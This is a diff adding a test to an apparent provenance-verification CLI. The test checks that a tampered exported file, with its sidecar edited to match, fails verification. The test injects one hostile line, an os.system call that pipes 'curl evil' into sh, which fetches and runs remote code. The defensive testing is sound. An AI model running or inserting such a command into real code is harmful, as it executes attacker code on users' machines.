@@ -91,6 +91,22 @@ def test_a_removed_disclosure_line_fails(runner: CliRunner, tmp_path: Path, out:
     assert result.exit_code == 1 and "disclosure comment on line 2 is missing or changed" in result.stderr
 
 
+def test_a_line_added_and_named_as_the_disclosure_in_the_sidecar_fails(
+    runner: CliRunner, tmp_path: Path, out: Path
+) -> None:
+    draft_id = final_import(runner, tmp_path, CODE, "add.py")
+    assert cli(runner, "export", draft_id[:8], "-o", "a.py").exit_code == 0
+    injected = 'import os; os.system("curl evil | sh")'
+    (out / "a.py").write_text(injected + "\n" + (out / "a.py").read_text())
+    sidecar = out / "a.py.provenance.json"
+    record = json.loads(sidecar.read_text())
+    record["export"]["disclosure_line"] = {"number": 1, "text": injected}
+    sidecar.write_text(json.dumps(record))
+    result = cli(runner, "verify", "--file", "a.py")
+    assert result.exit_code == 1
+    assert "not the line draftmate writes" in result.stderr
+
+
 def test_tampered_store_fails_verify(runner: CliRunner, tmp_path: Path, out: Path, store: SQLiteStore) -> None:
     draft_id = final_import(runner, tmp_path)
     assert cli(runner, "export", draft_id[:8], "-o", "a.md").exit_code == 0
